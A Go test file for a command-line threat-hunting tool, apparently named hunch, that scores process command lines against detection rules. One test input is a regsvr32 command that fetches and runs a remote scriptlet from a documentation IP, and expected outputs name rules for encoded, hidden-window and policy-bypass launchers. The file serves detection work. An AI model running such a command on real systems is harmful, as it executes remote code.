package cli

import (
	"strings"
	"testing"
)

func TestAnalyzeCmdline(t *testing.T) {
	code, out, errOut := runHunch(t, "", "analyze", "cmdline", "--min-score", "20", "-o", "csv", "--columns", "cmdline_score,cmdline_rules", "../../examples/events.ndjson")
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if lines[0] != "cmdline_score,cmdline_rules" || len(lines) < 12 {
		t.Fatalf("output:\n%s", out)
	}
	if !strings.Contains(out, "60,\"encoded_command\nhidden_window\npolicy_bypass\"") { // a list cell holds one value per line
		t.Errorf("no encoded launcher in:\n%s", out)
	}
	in := `{"cmd":"regsvr32 /s /n /u /i:http://203.0.113.5/file.sct scrobj.dll"}` + "\n" + `{"cmd":"notepad.exe notes.txt"}` + "\n"
	code, out, _ = runHunch(t, in, "analyze", "cmdline", "-f", "cmd", "-o", "ndjson", "--columns", "cmdline_score,cmdline_rules")
	if code != ExitOK || out != `{"cmdline_score":25,"cmdline_rules":["lolbin_execution"]}`+"\n"+`{"cmdline_score":0,"cmdline_rules":[]}`+"\n" {
		t.Errorf("exit %d:\n%s", code, out)
	}
	if code, _, errOut := runHunch(t, "", "analyze", "cmdline", "--min-score", "200"); code != ExitUsage || !strings.Contains(errOut, "want 0–100") {
		t.Errorf("bad --min-score: exit %d %s", code, errOut)
	}
}
